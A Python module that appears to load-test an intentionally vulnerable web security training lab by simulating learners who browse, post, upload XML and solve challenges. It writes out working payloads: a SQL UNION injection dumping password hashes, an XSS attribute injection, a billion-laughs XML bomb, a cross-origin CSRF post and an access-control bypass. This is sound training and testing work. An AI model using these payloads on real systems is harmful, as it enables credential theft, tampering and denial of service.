"""One simulated learner of a busy lab: plain HTTP, as a person with a browser or curl.

A learner picks their lab name (the ``lab_learner`` cookie), logs in once, then loops over
what a workshop does: search, post a listing, bulk-upload XML, read the JSON API and solve
their one challenge by hand. Never with the lab exploits' header: that would record the
solve as "shown by the lab". Every request is timed and kept as a :class:`Record`.
"""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from dataclasses import dataclass, field

import requests

# The challenges learners solve, each with the stage that makes it solvable. Their
# detectors judge one request with what is in the database; none reads a per-process
# ledger (marketplace.challenges.hooks.Ledger), which a learner's next request, served by
# another gunicorn worker, would not find.
STAGES = {
    "sql-injection": "concat",
    "csrf": "no-token",
    "xss": "unquoted-attribute",
    "broken-access-control": "authentication-only",
    "xxe": "resolve-entities",
    "vulnerable-components": "flask-0.12",
}
UNION = "zz') UNION SELECT id, email, password_hash, created_at, full_name FROM users ORDER BY 1 --"
INJECTED_NAME = " onmouseover=alert(1)"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lollollol!">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
    '<!ENTITY d "&c;&c;&c;&c;">]>'  # about 330 bytes that parse into 4,000 characters
    "<listings><listing><title>Laughs</title><description>&d;</description></listing>"
    "</listings>"
)
ADVISORY = "PYSEC-2018-66"  # Flask 0.12's, named in the lesson's third hint
ATTACKER_ORIGIN = "http://127.0.0.1:9"  # the learner's own attack page, another origin
SEARCHES = ("lamp", "bike", "teapot", "busy", "chair")
_TOKEN = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"')


@dataclass(frozen=True)
class Record:
    kind: str  # what the learner was doing: login, search, create, upload, api, ...
    status: int  # 0 when no answer came (an exception)
    seconds: float
    expected: bool  # the status (and answer) a working server gives
    error: str = ""  # the exception, when there was one


class TimeUp(Exception):
    """The run's time is over: the learner stops between two requests."""


@dataclass
class Learner:
    base: str
    name: str  # the lab learner name, also the account's full name
    email: str
    password: str
    challenge: tuple[str, str]  # (lesson, exploit)
    deadline: float = 0.0  # time.monotonic() after which no request starts
    timeout: float = 30.0
    records: list[Record] = field(default_factory=list)
    solved: set[tuple[str, str]] = field(default_factory=set)
    iterations: int = 0

    def __post_init__(self) -> None:
        # A browser's session: cookies kept, never marketplace.challenges.LAB_EXPLOIT_HEADER.
        self.http = requests.Session()

    # --- requests ----------------------------------------------------------------------

    def _send(self, kind: str, method: str, path: str, ok: Callable, **kwargs):
        # Everyone finishes a first round, however slow the machine: a learner who never
        # reached their challenge would make "exactly what they solved" an empty claim.
        if self.iterations and time.monotonic() > self.deadline:
            raise TimeUp
        if method == "POST":  # what a browser sends with a form: where it comes from
            kwargs["headers"] = {"Origin": self.base, **kwargs.get("headers", {})}
        started = time.perf_counter()
        try:
            reply = self.http.request(
                method, self.base + path, allow_redirects=False, timeout=self.timeout, **kwargs
            )
        except requests.RequestException as exc:
            seconds = time.perf_counter() - started
            self.records.append(Record(kind, 0, seconds, False, f"{type(exc).__name__}: {exc}"))
            return None
        seconds = time.perf_counter() - started
        self.records.append(Record(kind, reply.status_code, seconds, bool(ok(reply))))
        return reply

    def get(self, kind: str, path: str, ok: Callable = lambda r: r.status_code == 200):
        return self._send(kind, "GET", path, ok)

    def post(self, kind: str, path: str, data: dict, form: str | None = None, **kwargs):
        """GET the form page (for its CSRF token, when the stage puts one), then POST."""
        ok = kwargs.pop("ok", _redirected)
        page = self.get(kind, form or path)
        token = _TOKEN.search(page.text) if page is not None else None
        fields = {**data, "csrf_token": token.group(1)} if token else data
        return self._send(kind, "POST", path, ok, data=fields, **kwargs)

    # --- a workshop ----------------------------------------------------------------------

    def arrive(self) -> None:
        """Pick the lab name (kept in the lab's cookie), then log in."""
        self.post("learner", "/lab/learner", {"learner": self.name}, form="/lab/")
        self.post("login", "/user/login", {"email": self.email, "password": self.password})

    def work(self) -> None:
        """One round at least, then until the time is up; the challenge in every round
        (solving it again records nothing new)."""
        try:
            self.arrive()
            while True:
                self.round()
                self.iterations += 1
        except TimeUp:
            return

    def round(self) -> None:
        n = self.iterations
        self.get("search", f"/listings/?q={SEARCHES[n % len(SEARCHES)]}")
        title = f"{self.name} lamp {n}"
        self.post("create", "/listings/create", {"title": title, "description": "Brass, 40 cm."})
        items = "".join(
            f"<listing><title>{self.name} box {n}.{k}</title>"
            f"<description>Crate {k} of round {n}.</description></listing>"
            for k in range(2)
        )
        self.upload(f'<?xml version="1.0"?><listings>{items}</listings>', "upload")
        self.get("api", "/api/v1/listings?per_page=20")
        if SOLVE[self.challenge](self):
            self.solved.add(self.challenge)

    def upload(self, document: str, kind: str):
        files = {"file": ("listings.xml", document.encode(), "application/xml")}
        return self.post(kind, "/listings/upload", {}, files=files)

    def progress(self) -> set[tuple[str, str, str]]:
        """(lesson, exploit, by) of every challenge /lab/progress.json shows solved."""
        reply = self.http.get(self.base + "/lab/progress.json", timeout=self.timeout)
        reply.raise_for_status()
        return {
            (c["lesson"], c["exploit"], c["by"]) for c in reply.json()["challenges"] if c["solved"]
        }


def _redirected(reply) -> bool:
    """A form accepted: the redirect that follows a saved change (not back to a login)."""
    return reply.status_code in (302, 303) and "/user/login" not in reply.headers.get(
        "Location", ""
    )


# --- the challenges, by hand: each returns whether the learner saw it work -------------


def union_dump(learner: Learner) -> bool:
    reply = learner.get("challenge", "/listings/?q=" + requests.utils.quote(UNION))
    return reply is not None and reply.status_code == 200 and "$argon2id$" in reply.text


def cross_origin_form_post(learner: Learner) -> bool:
    # What the learner's page on another port makes the browser send: the cookies, the
    # form's fields, and an Origin header naming that page.
    data = {"title": f"{learner.name} was here", "description": "Posted from another origin."}
    reply = learner._send(
        "challenge",
        "POST",
        "/listings/create",
        _redirected,
        data=data,
        headers={"Origin": ATTACKER_ORIGIN, "Sec-Fetch-Site": "same-site"},
    )
    return reply is not None and _redirected(reply)


def attribute_injection(learner: Learner) -> bool:
    fields = {"full_name": learner.name + INJECTED_NAME, "email": learner.email, "greeting": ""}
    saved = learner.post("challenge", "/user/edit", fields)
    page = learner.get("challenge", "/user/edit")
    return bool(saved and _redirected(saved) and page and INJECTED_NAME.strip() in page.text)


def edit_foreign_listing(learner: Learner) -> bool:
    api = learner.get("challenge", "/api/v1/listings?per_page=100")
    if api is None or api.status_code != 200:
        return False
    mine = {learner.name, learner.name + INJECTED_NAME}
    foreign = [i["id"] for i in api.json()["items"] if i["author"]["full_name"] not in mine]
    if not foreign:
        return False
    fields = {"title": f"Taken by {learner.name}", "description": "Not yours any more."}
    reply = learner.post("challenge", f"/listings/{foreign[-1]}", fields)
    return reply is not None and _redirected(reply)


def entity_expansion(learner: Learner) -> bool:
    reply = learner.upload(LAUGHS, "challenge")
    return reply is not None and _redirected(reply)


def known_advisories(learner: Learner) -> bool:
    lesson = "vulnerable-components"
    reply = learner.post(
        "challenge",
        f"/lab/{lesson}/answer",
        {"exploit": "known-advisories", "answer": ADVISORY},
        form="/lab/",
        ok=lambda r: r.status_code == 302,
    )
    return reply is not None and reply.status_code == 302


SOLVE: dict[tuple[str, str], Callable[[Learner], bool]] = {
    ("sql-injection", "union-dump"): union_dump,
    ("csrf", "cross-origin-form-post"): cross_origin_form_post,
    ("xss", "attribute-injection"): attribute_injection,
    ("broken-access-control", "edit-foreign-listing"): edit_foreign_listing,
    ("xxe", "entity-expansion"): entity_expansion,
    ("vulnerable-components", "known-advisories"): known_advisories,
}
CHALLENGES = tuple(SOLVE)
